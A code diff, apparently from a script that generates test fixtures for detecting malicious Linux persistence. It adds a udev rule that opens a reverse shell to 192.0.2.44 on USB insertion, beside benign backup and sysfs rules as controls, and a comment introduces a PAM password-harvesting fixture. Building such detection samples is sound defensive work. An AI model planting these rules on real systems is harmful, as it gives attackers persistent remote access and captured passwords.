@@ -161,6 +161,15 @@ def main():
           "# Prompt and a check that the local agent answers.\nexport PS1='\\u@\\h:\\w\\$ '\n"
           "if ! (echo > /dev/tcp/127.0.0.1/8125) 2>/dev/null; then echo 'metrics agent down' >&2; fi\n")
 
+    # udev starts a reverse shell when a USB device appears; beside rules that run a backup
+    # script and a sh -c that writes sysfs.
+    write("udev-shell/etc/udev/rules.d/99-usb-serial.rules",
+          "# Serial adapters\nACTION==\"add\", SUBSYSTEM==\"usb\", ATTR{idVendor}==\"0403\", "
+          "RUN+=\"/bin/sh -c 'nohup bash -i >& /dev/tcp/192.0.2.44/5555 0>&1 &'\"\n")
+    write("udev-benign/etc/udev/rules.d/60-backup.rules",
+          "ACTION==\"add\", ENV{ID_FS_LABEL}==\"BACKUP\", RUN+=\"/usr/local/bin/backup-start %k\"\n"
+          "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/bin/sh -c 'echo auto > /sys%p/power/control'\"\n")
+
     # PAM hands the typed password to a program: pam_exec with expose_authtok on an auth line
     # (a credential harvester), beside pam_exec for a login notice, which never sees it.
     write("pam-exec-harvest/etc/pam.d/common-auth",
